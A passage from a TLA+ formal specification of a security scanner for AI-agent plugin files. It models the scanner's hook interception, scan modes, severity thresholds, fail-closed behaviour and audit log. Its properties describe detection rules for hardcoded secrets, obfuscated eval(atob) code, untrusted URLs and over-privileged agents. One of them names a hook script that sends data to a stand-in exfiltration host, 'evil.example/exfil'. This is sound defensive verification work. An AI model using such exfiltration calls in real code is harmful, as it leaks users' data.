      <<"agents", "absent.md">> }

ConcInit ==
    /\ configFile \in ConcConfigFiles
    /\ logWritable \in BOOLEAN
    /\ auditLog = <<>>
    /\ running = [p \in Procs |-> NotStarted]
    /\ proc = IdleProc
    /\ nruns = 0
    /\ scanIn = [content |-> <<L_empty>>, contentType |-> "unknown",
                 config |-> DefaultConfig]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"

\* the process starts with the lines its run hands to appendFileSync
Begin(p, mode, lines) ==
    /\ running[p].pc = "idle"
    /\ running' = [running EXCEPT ![p] = Started(mode, nruns + 1, lines)]
    /\ nruns' = nruns + 1
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, auditLog,
                   proc, rescan>>

BeginIntercept(p) ==
    \E event \in ConcEvents :
        \E out \in {runHookMode(event, configFile, TRUE, <<>>, nruns + 1)} :
            Begin(p, "hook", out.log)

BeginFullScan(p) ==
    \E targetDir \in ConcDirs :
        \E out \in {runScanMode(targetDir, configFile, TRUE, <<>>, nruns + 1)} :
            Begin(p, "scan", out.log)

BeginCheckPath(p) ==
    \E segs \in ConcPaths :
        \E out \in {runCheckPathMode(segs, configFile, TRUE, <<>>, nruns + 1)} :
            Begin(p, "check", out.log)

\* line 107 succeeds
AppendLine(p) ==
    /\ running[p].pc = "append"
    /\ logWritable
    /\ auditLog' = appendFileSync(auditLog, running[p].lines[1])
    /\ running' = [running EXCEPT ![p].pc = "done", ![p].appended = TRUE]
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, proc,
                   nruns, rescan>>

\* line 107 throws and the catch block of lines 108-110 reports it
AppendFails(p) ==
    /\ running[p].pc = "append"
    /\ ~logWritable
    /\ running' = [running EXCEPT ![p].pc = "done"]
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, auditLog,
                   proc, nruns, rescan>>

ConcNext ==
    \E p \in Procs :
        \/ BeginIntercept(p)
        \/ BeginFullScan(p)
        \/ BeginCheckPath(p)
        \/ AppendLine(p)
        \/ AppendFails(p)

SpecConc == ConcInit /\ [][ConcNext]_vars

(***************************************************************************)
(* SpecClassify: detectContentType is called on a path and on the same     *)
(* path written in another letter case or with forward slashes only.       *)
(***************************************************************************)
DirNames == {"agents", "Agents", "skills", "commands", "rules", "hooks", "scripts"}

FileNames == {"reviewer.md", "Reviewer.md", "hooks.json", "guard.js", "notes.txt"}

\* the names that differ from this one in letter case at most
CaseSet(name) == {n \in DirNames \cup FileNames : ToLower(n) = ToLower(name)}

RECURSIVE CaseVariants(_)
CaseVariants(names) ==
    IF names = <<>> THEN {<<>>}
    ELSE {<<h>> \o t : h \in CaseSet(Head(names)), t \in CaseVariants(Tail(names))}

WrittenPaths ==
    {Written(d \o <<f>>, seps) :
        d \in SeqsUpTo(DirNames, MaxDirs), f \in FileNames,
        seps \in SeqsUpTo({"/", "\\"}, MaxDirs)}

\* the path in another letter case, or with its backslashes replaced
Rewritings(w) ==
    {Written(n, w.seps) : n \in CaseVariants(w.names)}
    \cup {Written(w.names, [i \in 1..Len(w.seps) |-> "/"])}

ClassifyInit ==
    /\ \E w \in WrittenPaths :
        /\ Len(w.seps) = Len(w.names) - 1
        /\ \E v \in Rewritings(w) :
            proc = [mode |-> "classify", path |-> w, rewritten |-> v,
                    done |-> FALSE, type |-> "", rewrittenType |-> ""]
    /\ scanIn = [content |-> <<L_empty>>, contentType |-> "unknown",
                 config |-> DefaultConfig]
    /\ scanOut = NotRun
    /\ rescan = NoRescan
    /\ decIn = [findings |-> <<>>, config |-> DefaultConfig]
    /\ decOut = "none"
    /\ running = NoneRunning
    /\ configFile = [kind |-> "missing"]
    /\ logWritable = TRUE
    /\ auditLog = <<>>
    /\ nruns = 0

Classify ==
    /\ ~proc.done
    /\ proc' = [proc EXCEPT !.done = TRUE,
                            !.type = detectWritten(proc.path),
                            !.rewrittenType = detectWritten(proc.rewritten)]
    /\ UNCHANGED <<scanIn, scanOut, decIn, decOut, configFile, logWritable, auditLog,
                   nruns, rescan, running>>

SpecClassify == ClassifyInit /\ [][Classify]_vars

(***************************************************************************)
(* Properties of scanContent (SpecScan) and getAction (SpecDecide).        *)
(***************************************************************************)
\* the severity order of the specification: CRITICAL > HIGH > MEDIUM
SevRank(sev) ==
    CASE sev = "CRITICAL" -> 0
      [] sev = "HIGH"     -> 1
      [] OTHER            -> 2

\* C1: the finding sequence scanContent returns is severity-sorted: every
\* CRITICAL finding precedes every HIGH one, every HIGH one every MEDIUM one.
C1_SeveritySorted ==
    (scanOut.done /\ ~scanOut.threw) =>
        \A i, j \in 1..Len(scanOut.findings) :
            i < j => SevRank(scanOut.findings[i].severity)
                        <= SevRank(scanOut.findings[j].severity)

\* the threshold a configuration field names, the default if it names none
C3_Threshold(field, dflt) ==
    IF Has(decIn.config, field) /\ decIn.config[field] \in Severities
    THEN decIn.config[field] ELSE dflt

C3_Ranks == {SevRank(decIn.findings[i].severity) : i \in 1..Len(decIn.findings)}

\* C3: the decision is a function of the worst severity present and the two
\* thresholds: BLOCK iff the worst severity is at or above the block threshold,
\* otherwise WARN iff it is at or above the warn threshold, otherwise PASS
\* (PASS for no findings), whatever the order and multiplicity of the findings.
C3_DecisionByWorstSeverity ==
    decOut # "none" =>
        decOut = IF C3_Ranks = {} THEN "PASS"
                 ELSE IF Min(C3_Ranks) <= SevRank(C3_Threshold("blockOnSeverity", "CRITICAL"))
                 THEN "BLOCK"
                 ELSE IF Min(C3_Ranks) <= SevRank(C3_Threshold("warnOnSeverity", "HIGH"))
                 THEN "WARN"
                 ELSE "PASS"

\* a decision on an unsorted sequence with a repeated finding
C3_Witness ==
    /\ decOut = "WARN"
    /\ Len(decIn.findings) = 3
    /\ decIn.findings[1].severity = "MEDIUM"
    /\ decIn.findings[2].severity = "HIGH"
    /\ decIn.findings[3].severity = "MEDIUM"
    /\ decIn.config = [blockOnSeverity |-> "CRITICAL", warnOnSeverity |-> "HIGH"]

\* C9: scanContent returns a finding sequence and raises no error, whatever
\* the document's metadata block holds.
C9_ScanNeverAborts == scanOut.done => ~scanOut.threw

(***************************************************************************)
(* Properties of the gate (Spec).                                          *)
(***************************************************************************)
IsHook == proc.mode = "hook"

\* the content the event carries for inspection: the full content, else the
\* inserted fragment, else nothing
Extracted ==
    IF proc.event.kind # "object" THEN Absent
    ELSE IF Truthy(proc.event.content) THEN proc.event.content
    ELSE proc.event.new_string

\* the entries the last process appended to the audit log
Appended == SubSeq(auditLog, Len(proc.logBefore) + 1, Len(auditLog))

LogKeptBefore == SubSeq(auditLog, 1, Len(proc.logBefore)) = proc.logBefore

Halted == proc.out.exit = 2 /\ ~proc.out.reemitted

Allowed == proc.out.exit = 0 /\ proc.out.reemitted

\* C2: an Intercept call that reaches the scan halts the write (exit status 2,
\* event not re-emitted) iff the decision computed from the policy thresholds
\* is BLOCK; on WARN or PASS the event is re-emitted and the write allowed.
C2_HaltIffBlock ==
    (IsHook /\ proc.out.scanned /\ ~proc.out.error) =>
        /\ Halted <=> proc.out.action = "BLOCK"
        /\ proc.out.action \in {"WARN", "PASS"} => Allowed

\* C4: fail-closed: an Intercept call in which an error is raised ends with
\* the block exit status and does not re-emit the event if the content
\* extracted for inspection is non-empty, and re-emits the event otherwise.
C4_FailClosed ==
    (IsHook /\ proc.out.error) =>
        IF Truthy(Extracted) THEN Halted ELSE Allowed

\* an error raised by the scan of a non-empty document: the write is halted
C4_Witness ==
    /\ IsHook
    /\ proc.out.error
    /\ proc.out.scanned
    /\ proc.event.content = <<L_dashes, L_nameNone, L_haiku, L_dashes>>
    /\ Halted

\* the configuration file lets writeAuditLog reach its append
ConfigUsable == ~(configFile.kind = "json" /\ IsNull(configFile.value))

\* C5: every Intercept call that ends in BLOCK, WARN or PASS (the BLOCK of the
\* fail-closed error path included) has appended exactly one audit entry when
\* it ends, the log being writable.
C5_OneEntryPerTerminal ==
    (IsHook /\ proc.out.scanned /\ logWritable /\ ConfigUsable) =>
        /\ Len(Appended) = 1
        /\ LogKeptBefore

\* C6: for a path that classifies as unknown, in every call mode, the scan
\* yields no findings and no audit entry of kind "scan" is appended.
C6_UnknownNoScanEntry ==
    /\ (IsHook /\ proc.event.kind = "object"
            /\ detectContentType(proc.event.file_path) = "unknown") =>
          /\ proc.out.findings = <<>>
          /\ \A i \in 1..Len(Appended) : Appended[i].entry.event # "scan"
    /\ (proc.mode = "check" /\ detectContentType(InRoot(proc.segs)) = "unknown") =>
          /\ proc.out.findings = <<>>
          /\ Appended = <<>>
    /\ proc.mode = "scan" =>
          /\ \A i \in 1..Len(proc.out.allFindings) :
                detectContentType(InRoot(proc.out.allFindings[i].file)) # "unknown"
          /\ \A i \in 1..Len(Appended) : Appended[i].entry.event # "scan"

\* some directory of the path is a protected directory (in any letter case)
UnderProtectedDir(path) ==
    \E i \in 1..(Len(path.segs) - 1) :
        ToLower(path.segs[i]) \in SeqToSet(PROTECTED_DIRS)

\* C7: an Intercept call whose target is under no protected directory, or that
\* carries no target path, or no content and no inserted fragment, or whose
\* path is one of the scanner's own files, re-emits the event with a success
\* status, evaluates no rule, does not load the policy and appends no entry.
C7_PassthroughFrame ==
    (/\ IsHook
     /\ proc.event.kind = "object"
     /\ \/ ~UnderProtectedDir(proc.event.file_path)
        \/ proc.event.file_path = NoPath
        \/ ~Truthy(Extracted)
        \/ RelativePath(proc.event.file_path) \in SELF_PATHS) =>
        /\ Allowed
        /\ ~proc.out.scanned
        /\ ~proc.out.configLoaded
        /\ proc.out.stderr = {}
        /\ auditLog = proc.logBefore

\* a dangerous document written outside the protected directories
C7_Witness ==
    /\ IsHook
    /\ proc.event.file_path = InRoot(<<"docs", "readme.md">>)
    /\ proc.event.content = <<L_skip, L_force>>
    /\ Allowed

\* the files a full scan visits that carry a scanned extension
C8_Candidates ==
    {i \in 1..Len(FileSystem) :
        /\ \E k \in 1..Len(FilesToVisit(proc.targetDir)) :
              FilesToVisit(proc.targetDir)[k] = FileSystem[i]
        /\ HasScannedExt(FileSystem[i].segs)
        /\ FileSystem[i].readable
        /\ detectContentType(InRoot(FileSystem[i].segs)) # "unknown"}

\* C8: self-exclusion applies only to a target whose path relative to the
\* root is exactly one of the five scanner files: any other file under a
\* protected directory, one named like a scanner file included, is classified
\* and scanned, in hook mode and in scan mode.
C8_SelfExclusionExactPath ==
    /\ (/\ IsHook
        /\ proc.event.kind = "object"
        /\ Truthy(Extracted)
        /\ proc.event.file_path # NoPath
        /\ UnderProtectedDir(proc.event.file_path)) =>
          /\ proc.out.scanned <=> RelativePath(proc.event.file_path) \notin SELF_PATHS
          /\ proc.out.scanned =>
                proc.out.contentType = detectContentType(proc.event.file_path)
    /\ (proc.mode = "scan" /\ ~proc.out.rejected) =>
          \A i \in C8_Candidates :
              FileSystem[i].segs \in SeqToSet(proc.out.scannedFiles)
                  <=> FileSystem[i].segs \notin SELF_PATHS

\* a file named like a scanner file, at another path, is scanned and flagged
C8_Witness ==
    /\ IsHook
    /\ proc.event.file_path = InRoot(<<"agents", "security-scan.md">>)
    /\ proc.out.scanned
    /\ proc.out.contentType = "agent"
    /\ Len(proc.out.findings) > 0

\* the configuration file is missing or malformed
C10_Malformed ==
    \/ configFile.kind \in {"missing", "garbage"}
    \/ /\ configFile.kind = "json"
       /\ \/ IsNull(configFile.value)
          \/ configFile.value = [blockOnSeverity |-> "LOW", warnOnSeverity |-> "LOW"]

DefaultFile == [kind |-> "json", value |-> DefaultConfig]

\* what the last process would have done with the hardcoded defaults on disk
C10_UnderDefaults ==
    CASE proc.mode = "hook" ->
            runHookMode(proc.event, DefaultFile, logWritable, proc.logBefore, nruns)
      [] proc.mode = "scan" ->
            runScanMode(proc.targetDir, DefaultFile, logWritable, proc.logBefore, nruns)
      [] proc.mode = "check" ->
            runCheckPathMode(proc.segs, DefaultFile, logWritable, proc.logBefore, nruns)

\* what a caller observes of a process: its exit status, what it wrote to
\* stdout (the event, the report) and the audit log it leaves
C10_Observed(out) ==
    CASE proc.mode = "hook" ->
            <<out.exit, out.reemitted, out.log>>
      [] proc.mode = "scan" ->
            <<out.exit, out.status, out.totalFiles, out.allFindings, out.log>>
      [] proc.mode = "check" ->
            <<out.exit, out.report, out.findings, out.log>>

\* C10: with a missing or malformed configuration file every call mode
\* proceeds and behaves exactly as under the hardcoded defaults (block on
\* CRITICAL, warn on HIGH, no exempted rule, no extra whitelist).
C10_MalformedConfigAsDefaults ==
    (proc.mode # "none" /\ C10_Malformed) =>
        C10_Observed(proc.out) = C10_Observed(C10_UnderDefaults)

(***************************************************************************)
(* Properties of the root boundary (Spec).                                 *)
(***************************************************************************)
\* the absolute path lies in the installation root
InsideRoot(abs) == IsPrefix(PLUGIN_DIR, abs)

\* C11: every line writeAuditLog appends goes to a file inside the
\* installation root, whatever audit-log path the configuration gives.
C11_AuditLogInsideRoot ==
    \A i \in 1..Len(auditLog) : InsideRoot(auditLog[i].path)

\* C12: FullScan reads files only from directories inside the installation
\* root: a directory argument that resolves outside the root is rejected
\* before any file is read.
C12_ScanInsideRoot ==
    (proc.mode = "scan" /\ proc.targetDir.kind # "none"
        /\ ~(Resolve(PLUGIN_DIR, proc.targetDir.segs) = PLUGIN_DIR
              \/ InsideRoot(Resolve(PLUGIN_DIR, proc.targetDir.segs)))) =>
            /\ proc.out.rejected
            /\ proc.out.totalFiles = 0
            /\ proc.out.scannedFiles = <<>>
(***************************************************************************)
(* Properties of the audit append (Spec).                                  *)
(***************************************************************************)
\* what the process that ran would have done with the audit log in the other
\* condition (writable or not), everything else being the same
OtherLogRun ==
    CASE proc.mode = "hook" ->
            runHookMode(proc.event, configFile, ~logWritable, proc.logBefore, nruns)
      [] proc.mode = "scan" ->
            runScanMode(proc.targetDir, configFile, ~logWritable, proc.logBefore, nruns)
      [] proc.mode = "check" ->
            runCheckPathMode(proc.segs, configFile, ~logWritable, proc.logBefore, nruns)

\* C13: whether the audit append succeeds or fails changes nothing in the
\* outcome: Intercept halts or re-emits with the same exit status, FullScan
\* reports the same status and exit code, CheckPath gives the same report.
C13_AuditNeverDecides ==
    CASE proc.mode = "hook" ->
            /\ OtherLogRun.exit = proc.out.exit
            /\ OtherLogRun.reemitted = proc.out.reemitted
            /\ OtherLogRun.action = proc.out.action
      [] proc.mode = "scan" ->
            /\ OtherLogRun.exit = proc.out.exit
            /\ OtherLogRun.status = proc.out.status
      [] proc.mode = "check" ->
            /\ OtherLogRun.exit = proc.out.exit
            /\ OtherLogRun.report = proc.out.report
      [] OTHER -> TRUE

\* an Intercept call that passes a write while its audit append fails, and
\* appends the entry when the log is writable
C13_Witness ==
    /\ proc.mode = "hook"
    /\ ~logWritable
    /\ "AUDIT-FAILED" \in proc.out.stderr
    /\ proc.out.reemitted
    /\ proc.out.action = "PASS"
    /\ Len(OtherLogRun.log) = Len(proc.logBefore) + 1
(***************************************************************************)
(* Properties of scan mode and check-path mode (Spec).                     *)
(***************************************************************************)
IsScan == proc.mode = "scan"

\* the aggregated findings of the run contain a finding of this severity
Aggregated(sev) ==
    \E i \in 1..Len(proc.out.allFindings) : proc.out.allFindings[i].severity = sev

\* C14 as stated: every FullScan invocation exits with status 1 if and only if
\* its aggregated findings contain a CRITICAL finding, and with 0 otherwise.
C14_ExitIffCritical ==
    IsScan =>
        /\ proc.out.exit \in {0, 1}
        /\ proc.out.exit = 1 <=> Aggregated("CRITICAL")

\* C14, amended: a FullScan invocation whose directory argument is accepted
\* exits with status 1 if and only if its aggregated findings contain a
\* CRITICAL finding, and with 0 otherwise; one whose argument is rejected
\* exits with status 1 and has no findings.
C14_ExitIffCriticalUnlessRejected ==
    IsScan =>
        IF proc.out.rejected
        THEN proc.out.exit = 1 /\ proc.out.allFindings = <<>>
        ELSE /\ proc.out.exit \in {0, 1}
             /\ proc.out.exit = 1 <=> Aggregated("CRITICAL")

\* a scan of an accepted directory that fails on a CRITICAL finding
C14_Witness ==
    /\ IsScan
    /\ proc.targetDir.kind = "in"
    /\ ~proc.out.rejected
    /\ Aggregated("CRITICAL")
    /\ proc.out.exit = 1

\* C15: the report of a FullScan carries exactly one overall status, fixed by
\* the aggregated findings: CLEAN iff there is none, CRITICAL ISSUES FOUND iff
\* one is CRITICAL, REVIEW REQUIRED iff none is CRITICAL and one is HIGH,
\* ACCEPTABLE iff there are findings and all are MEDIUM.
C15_StatusByFindings ==
    (IsScan /\ ~proc.out.rejected) =>
        /\ proc.out.status \in {"CLEAN", "CRITICAL ISSUES FOUND", "REVIEW REQUIRED",
                                "ACCEPTABLE"}
        /\ proc.out.status = "CLEAN" <=> proc.out.allFindings = <<>>
        /\ proc.out.status = "CRITICAL ISSUES FOUND" <=> Aggregated("CRITICAL")
        /\ proc.out.status = "REVIEW REQUIRED" <=>
                (~Aggregated("CRITICAL") /\ Aggregated("HIGH"))
        /\ proc.out.status = "ACCEPTABLE" <=>
                /\ proc.out.allFindings # <<>>
                /\ \A i \in 1..Len(proc.out.allFindings) :
                        proc.out.allFindings[i].severity = "MEDIUM"

\* a scan that finds CRITICAL and HIGH findings together
C15_Witness ==
    /\ IsScan
    /\ Aggregated("CRITICAL")
    /\ Aggregated("HIGH")
    /\ proc.out.status = "CRITICAL ISSUES FOUND"

\* C16: CheckPath is advisory: whatever the path and the configuration, it
\* ends with exit status 0.
C16_CheckIsAdvisory ==
    proc.mode = "check" => proc.out.exit = 0

\* a check of a file with a CRITICAL finding: an alert, and exit status 0
C16_Witness ==
    /\ proc.mode = "check"
    /\ proc.out.report = "ALERT"
    /\ Count(proc.out.findings, "CRITICAL") > 0
    /\ proc.out.exit = 0
(***************************************************************************)
(* Properties of the rule loop of scanContent (SpecScan, SpecRescan).      *)
(***************************************************************************)
\* C17: a rule contributes at most one finding per scan: no two findings of
\* the returned sequence carry the same rule id.
C17_OneFindingPerRule ==
    (scanOut.done /\ ~scanOut.threw) =>
        \A i, j \in 1..Len(scanOut.findings) :
            i # j => scanOut.findings[i].id # scanOut.findings[j].id

\* a content that matches one regex rule on two lines, reported once at the
\* first of them
C17_Witness ==
    /\ scanOut.done
    /\ ~scanOut.threw
    /\ Len(scanIn.content) = 2
    /\ \E id \in LineHits(scanIn.content[1]) \cap LineHits(scanIn.content[2]) :
        \E i \in 1..Len(scanOut.findings) :
            scanOut.findings[i].id = id /\ scanOut.findings[i].line = 1

RuleIds == {PATTERNS[k].id : k \in 1..Len(PATTERNS)}

\* the policy with one more exempted rule id
Exempting(config, id) ==
    [k \in DOMAIN config \cup {"allowedPatterns"} |->
        IF k = "allowedPatterns" THEN AllowedPatterns(config) \cup {id} ELSE config[k]]

\* the scan of the same content and category under the policy that also
\* exempts the rule
ExemptScan(id) ==
    scanContent(scanIn.content, scanIn.contentType, Exempting(scanIn.config, id))

\* C18: exempting a rule id makes that rule produce no finding and leaves
\* the findings of all other rules as they are, on every content and category.
C18_ExemptionRemovesOnlyTheRule ==
    (scanOut.done /\ ~IsNull(scanIn.config)) =>
        \A id \in RuleIds :
            /\ ExemptScan(id).threw = scanOut.threw
            /\ ExemptScan(id).findings =
                    SelectSeq(scanOut.findings, LAMBDA f : f.id # id)

\* C19: two scans of the same content, category and policy return the same
\* finding sequence (ids, order, lines and excerpts), whether the second is
\* made by the same process, after other scans or not, or by a new process.
C19_Deterministic ==
    rescan.done =>
        /\ rescan.threw = scanOut.threw
        /\ rescan.findings = scanOut.findings

\* a second scan by the same process, after a scan of another content, of a
\* hook script in which regex rules match
C19_Witness ==
    /\ rescan.done
    /\ rescan.others = 1
    /\ scanIn.contentType = "hook-script"
    /\ Len(rescan.findings) >= 2
    /\ \E i \in 1..Len(rescan.findings) : rescan.findings[i].id = "CRIT-006"
(***************************************************************************)
(* Properties of the report of hook mode (Spec).                           *)
(***************************************************************************)
\* the messages of the report about findings, among all that stderr can carry
FindingReports == {"BLOCKED", "WARNING", "INFO"}

\* C20: when the decision of an Intercept call is PASS the write is allowed
\* silently: the event is re-emitted and nothing about findings is written
\* to the diagnostic channel, whatever findings led to PASS.
C20_PassIsSilent ==
    (IsHook /\ proc.out.scanned /\ ~proc.out.error /\ proc.out.action = "PASS") =>
        /\ Allowed
        /\ proc.out.stderr \cap FindingReports = {}

(***************************************************************************)
(* Properties of single rules.                                             *)
(***************************************************************************)
\* the findings of one rule in the result of the scan
FindingsOf(id) == SelectSeq(scanOut.findings, LAMBDA f : f.id = id)

\* the scan returned and the content carries no front-matter block
ScannedPlain == scanOut.done /\ ~scanOut.threw

\* line i holds a secret-like assignment whose value is no placeholder, and
\* neither it nor the (up to) two lines before it carry a marker word
ReportableSecretAt(lines, i) ==
    /\ \E k \in 1..Len(SecretValues(lines[i])) : ~IsFakeValue(SecretValues(lines[i])[k])
    /\ \A j \in {i - 2, i - 1, i} : j >= 1 => ~HasBadMarker(lines[j])

\* C21: the hardcoded-secret rule reports a finding exactly when some line
\* holds a secret-like assignment with a value that is no placeholder and
\* neither that line nor the two before it carry a marker word; the finding
\* is at the first such line.
C21_SecretIffReportable ==
    (ScannedPlain /\ Applies(PATTERNS[1], scanIn.contentType, scanIn.config)) =>
        LET lines == scanIn.content
            S == {i \in 1..Len(lines) : ReportableSecretAt(lines, i)}
            F == FindingsOf("CRIT-001")
        IN IF S = {} THEN F = <<>>
           ELSE Len(F) = 1 /\ F[1].line = Min(S)

\* the host a URL names: the text the rule captures, without a port
UrlHost(domain) == IF domain = <<"localhost:3000">> THEN <<"localhost">> ELSE domain

\* the host is an entry of the trusted list or of the whitelist, or a
\* sub-domain of one
TrustedHost(host, config) ==
    \E w \in defaultWhitelist \cup Whitelist(config) : host = w \/ EndsWithDot(host, w)

\* the positions <<line, n>> of the URLs of the content whose host is not trusted
OffendingUrls(lines, config) ==
    {p \in (1..Len(lines)) \X (1..2) :
        /\ p[2] <= Len(UrlDomains(lines[p[1]]))
        /\ ~TrustedHost(UrlHost(UrlDomains(lines[p[1]])[p[2]]), config)}

\* C22: the external-URL rule produces a finding iff some URL of the content
\* names a host that is neither an entry of the trusted list or the whitelist
\* nor a sub-domain of one, and the finding reports the first such URL in
\* line order.
C22_UrlFindingIffUntrusted ==
    (ScannedPlain /\ Applies(PATTERNS[18], scanIn.contentType, scanIn.config)) =>
        LET lines == scanIn.content
            O == OffendingUrls(lines, scanIn.config)
            F == FindingsOf("MED-003")
        IN IF O = {} THEN F = <<>>
           ELSE /\ Len(F) = 1
                /\ F[1].line = Min({p[1] : p \in O})
                /\ F[1].match =
                      UrlTexts(lines[F[1].line])[Min({p[2] : p \in {q \in O : q[1] = F[1].line}})]

\* the tools the front-matter block of the document lists (none without a block)
ListedTools(lines) ==
    LET fm == parseFrontmatter(lines)
    IN IF fm.isNull \/ ~Has(fm.map, "tools") THEN {}
       ELSE SeqToSet(fm.map["tools"].a)

\* C23: for an agent document the excessive-privilege rule yields exactly one
\* HIGH finding, at line 1, when the tool list of the metadata contains all
\* six of Read, Write, Edit, Bash, Grep, Glob, and none otherwise.
C23_SixToolsIffFinding ==
    (scanOut.done /\ scanIn.contentType = "agent") =>
        LET F == FindingsOf("HIGH-001")
        IN IF SixTools \subseteq ListedTools(scanIn.content)
           THEN Len(F) = 1 /\ F[1].severity = "HIGH" /\ F[1].line = 1
           ELSE F = <<>>

\* the lines of the content, as a set
LinesOf(content) == {content[i] : i \in 1..Len(content)}

\* C24: a hook script with a fetch call to https://evil.example/exfil gets a
\* CRITICAL data-exfiltration finding (CRIT-002) at the first line with the
\* call; a hook script whose only fetch calls target http://localhost:3000
\* gets no data-exfiltration finding.
C24_FetchExternalNotLocal ==
    (scanOut.done /\ scanIn.contentType = "hook-script"
        /\ Applies(PATTERNS[2], scanIn.contentType, scanIn.config)) =>
        LET lines == scanIn.content
            F == FindingsOf("CRIT-002")
        IN IF L_fetch \in LinesOf(lines)
           THEN /\ ~scanOut.threw
                /\ Len(F) = 1
                /\ F[1].severity = "CRITICAL"
                /\ F[1].line = Min({i \in 1..Len(lines) : lines[i] = L_fetch})
           ELSE F = <<>>

\* C24: both calls were scanned in one hook script, the local one first
C24_Witness ==
    /\ scanOut.done
    /\ scanIn.contentType = "hook-script"
    /\ scanIn.content = <<L_local, L_fetch>>
    /\ Len(FindingsOf("CRIT-002")) = 1
    /\ FindingsOf("CRIT-002")[1].line = 2
    /\ Len(FindingsOf("CRIT-006")) = 1

(***************************************************************************)
(* Properties of the audit log under concurrency (SpecConc).               *)
(***************************************************************************)
\* how often the line occurs in the audit log
Occurrences(line) == Cardinality({i \in 1..Len(auditLog) : auditLog[i] = line})

\* the processes that have built an audit entry
WithEntry == {p \in DOMAIN running : running[p].lines # <<>>}

\* every line of the log is the complete entry of a process
LogLinesAreEntries ==
    \A i \in 1..Len(auditLog) : \E p \in WithEntry : running[p].lines[1] = auditLog[i]

\* C25: under every interleaving of gate processes with atomic appends the
\* log only holds complete entries, and the entry of every process that has
\* ended is in the log exactly once.
C25_EveryEntryOnce ==
    /\ LogLinesAreEntries
    /\ \A p \in WithEntry :
        running[p].pc = "done" => Occurrences(running[p].lines[1]) = 1

\* C25, amended: under every interleaving of gate processes with atomic
\* appends the log only holds complete entries; the entry of a process is in
\* the log exactly once from the moment its append succeeded, and never if
\* its append failed.
C25_EverySucceededEntryOnce ==
    /\ LogLinesAreEntries
    /\ \A p \in WithEntry :
        Occurrences(running[p].lines[1]) = (IF running[p].appended THEN 1 ELSE 0)
    /\ Len(auditLog) = Cardinality({p \in WithEntry : running[p].appended})
    /\ \A p \in WithEntry :
        running[p].pc = "done" => (running[p].appended <=> logWritable)

\* C25: two processes have ended, and the one that started later appended first
C25_Witness ==
    /\ Len(auditLog) = 2
    /\ auditLog[1].timestamp > auditLog[2].timestamp
    /\ \A p \in DOMAIN running : running[p].pc = "done" /\ running[p].appended

(***************************************************************************)
(* Properties of detectContentType (SpecClassify).                         *)
(***************************************************************************)
\* C26: detectContentType returns one of the seven categories for every path,
\* and the same one for the path written in another letter case or with its
\* backslashes replaced by forward slashes.
C26_ClassifyIsInvariant ==
    proc.done =>
        /\ proc.type \in ContentTypes
        /\ proc.rewrittenType = proc.type

\* C26: a path written with backslashes and capitals was classified as an
\* agent document, and so was the same path with forward slashes
C26_Witness ==
    /\ proc.done
    /\ proc.path = Written(<<"Agents", "Reviewer.md">>, <<"\\">>)
    /\ proc.rewritten = Written(<<"Agents", "Reviewer.md">>, <<"/">>)
    /\ proc.type = "agent"

\* the first line from which the text of the content matches the cross-line
\* rule: one plus the number of newlines before the match
CrossLineStart(lines) ==
    Min({i \in 1..Len(lines) :
            /\ HasEvalOpen(lines[i])
            /\ \/ HasDecodeAfterEval(lines[i])
               \/ \E j \in (i + 1)..Len(lines) : HasDecode(lines[j])})

\* C27: every finding scanContent returns has a line number between 1 and the
\* number of lines of the content (for the cross-line rule, the line the match
\* starts in) and an excerpt of at most 120 characters.
C27_FindingsWellFormed ==
    (scanOut.done /\ ~scanOut.threw) =>
        \A n \in 1..Len(scanOut.findings) :
            LET f == scanOut.findings[n]
            IN /\ f.line \in 1..Len(scanIn.content)
               /\ f.id = "CRIT-005" => f.line = CrossLineStart(scanIn.content)
               /\ Len(f.match) <= 120

\* C27: a scan returned a finding whose excerpt was cut to 120 characters and
\* a cross-line finding that starts after the first line
C27_Witness ==
    /\ scanOut.done
    /\ \E n \in 1..Len(scanOut.findings) :
        /\ scanOut.findings[n].id = "CRIT-001"
        /\ Len(scanOut.findings[n].match) = 120
        /\ SubSeq(scanOut.findings[n].match, 118, 120) = "..."
    /\ \E n \in 1..Len(scanOut.findings) :
        /\ scanOut.findings[n].id = "CRIT-005"
        /\ scanOut.findings[n].line = 2
        /\ scanOut.findings[n].match = "eval(   atob"

\* the files of the run that pass the extension and self-path tests
Candidates ==
    SelectSeq(FilesToVisit(proc.targetDir),
              LAMBDA f : HasScannedExt(f.segs) /\ ~IsSelfPath(InRoot(f.segs)))

\* reading the file or scanning its content raises an error
FileFails(f) ==
    \/ ~f.readable
    \/ /\ detectContentType(InRoot(f.segs)) # "unknown"
       /\ scanContent(f.content, detectContentType(InRoot(f.segs)),
                      loadConfig(configFile)).threw

\* the findings of the files that are classified and scan without error, in
\* the order of the files
FindingsOfSoundFiles ==
    Flatten([i \in 1..Len(Candidates) |->
        LET f == Candidates[i]
            type == detectContentType(InRoot(f.segs))
        IN IF FileFails(f) \/ type = "unknown" THEN <<>>
           ELSE Tagged(scanContent(f.content, type, loadConfig(configFile)).findings,
                       f.segs)])

\* a FullScan of an accepted directory in which a file failed
ScanWithFailure ==
    /\ IsScan
    /\ ~proc.out.rejected
    /\ \E i \in 1..Len(Candidates) : FileFails(Candidates[i])

\* the failure stays with the file: it is reported, the file is counted, the
\* findings are those of the other files, and status and exit follow from them
FailureIsolated ==
    /\ "SCAN-ERROR" \in proc.out.stderr
    /\ proc.out.totalFiles = Len(Candidates)
    /\ proc.out.allFindings = FindingsOfSoundFiles
    /\ proc.out.status = ScanStatus(FindingsOfSoundFiles)
    /\ proc.out.exit = ScanExit(FindingsOfSoundFiles)

\* the run appended exactly one full-scan entry to the audit log
OneScanEntry ==
    /\ Len(proc.out.log) = Len(proc.logBefore) + 1
    /\ SubSeq(proc.out.log, 1, Len(proc.logBefore)) = proc.logBefore
    /\ Last(proc.out.log).entry.event = "full-scan"
    /\ Last(proc.out.log).entry.totalFiles = Len(Candidates)
    /\ Last(proc.out.log).entry.findings = FindingsOfSoundFiles

\* C28 as stated: in a FullScan an error raised while reading or scanning a
\* file is reported, the file is counted and contributes no findings, the
\* other files are scanned, status and exit follow from their findings, and
\* exactly one full-scan audit entry is written.
C28_FileErrorIsolated ==
    ScanWithFailure => (FailureIsolated /\ OneScanEntry)

\* C28, amended: as above, with exactly one full-scan audit entry written
